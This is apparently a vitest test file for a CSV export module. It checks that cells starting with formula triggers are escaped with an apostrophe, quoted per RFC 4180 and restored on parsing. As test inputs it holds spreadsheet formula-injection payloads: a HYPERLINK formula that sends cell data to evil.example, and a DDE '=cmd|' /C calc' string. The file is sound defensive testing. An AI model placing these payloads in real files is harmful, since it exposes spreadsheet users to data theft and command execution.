import { describe, expect, it } from 'vitest';
import { parseCsv, parseCsvRecords } from '../leaderboard/csv';
import { csvCell, escapeCsvFormula, toCsv, unescapeCsvFormula } from './csv';

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];

describe('CSV formula-injection escaping', () => {
  it.each(TRIGGERS)('a text cell beginning with %j is written as text (apostrophe, quoted)', (start) => {
    const value = `${start}HYPERLINK("http://evil.example/?"&A1,"x")`;
    const cell = csvCell(value);
    expect(cell.startsWith(`"'${start}`)).toBe(true);
    expect(parseCsv(`${cell}\r\n`)[0]).toEqual([`'${value}`]);
  });

  it('leaves safe text, numbers and booleans alone; quotes what RFC 4180 needs', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell("it's")).toBe("it's");
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell(' padded')).toBe('" padded"');
    expect(csvCell(-0.25)).toBe('-0.25');
    expect(csvCell(-Infinity)).toBe('-Infinity');
    expect(csvCell(false)).toBe('false');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    // Strings are escaped even when they look numeric: a spreadsheet cannot tell "-1" from "-1+cmd|…".
    expect(csvCell('-1')).toBe(`"'-1"`);
  });

  it('is reversible, also for text that already starts with apostrophes', () => {
    for (const value of ['=1+2', "'=1+2", "''@x", "'plain", 'plain', '-', '@', '\tx', '\r\nx', "'"]) {
      expect(unescapeCsvFormula(escapeCsvFormula(value))).toBe(value);
    }
    expect(escapeCsvFormula("'=x")).toBe("''=x");
    expect(unescapeCsvFormula("'plain")).toBe("'plain");
  });

  it('round-trips a whole file through parseCsvRecords({ formulaEscaped })', () => {
    const rows = [
      ['=cmd|\' /C calc\'!A0', '+1', '-2+3', '@SUM(A1:A2)', '\tlead', '\rcr', "'=kept", 'ok', -0.5],
      ['a,b', 'say "hi"', 'line\nbreak', '', ' padded', null, 'x', 'y', 3],
    ];
    const headers = ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i'];
    const text = toCsv(headers, rows);
    for (const line of parseCsv(text).slice(1)) {
      // Column i holds numbers: -0.5 stays a number.
      for (const field of line.slice(0, -1)) expect(field, `cell ${JSON.stringify(field)} could run as a formula`).not.toMatch(/^[=+\-@\t\r]/);
    }
    const records = parseCsvRecords(text, { formulaEscaped: true });
    expect(records.map((r) => headers.map((h) => r[h]))).toEqual(rows.map((row) => row.map((v) => (v === null ? '' : String(v)))));
    // Without the option the escape is visible, as a spreadsheet shows it.
    expect(parseCsvRecords(text)[0]!.a).toBe("'=cmd|' /C calc'!A0");
  });
});
